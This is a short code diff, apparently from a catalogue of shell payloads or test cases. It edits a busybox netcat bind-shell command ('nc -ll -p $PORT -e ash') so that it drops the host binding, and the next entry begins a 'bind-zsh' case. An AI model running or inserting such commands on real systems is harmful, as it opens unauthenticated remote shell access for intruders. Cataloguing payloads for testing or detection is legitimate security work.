@@ -128,7 +128,7 @@ int main(void) {
         language=Language.BASH,
         programs=("busybox",),
         transport=_BIND,
-        text="exec busybox nc -ll -p $PORT -s $HOST -e ash",
+        text="exec busybox nc -ll -p $PORT -e ash",
     ),
     Case(
         name="bind-zsh",
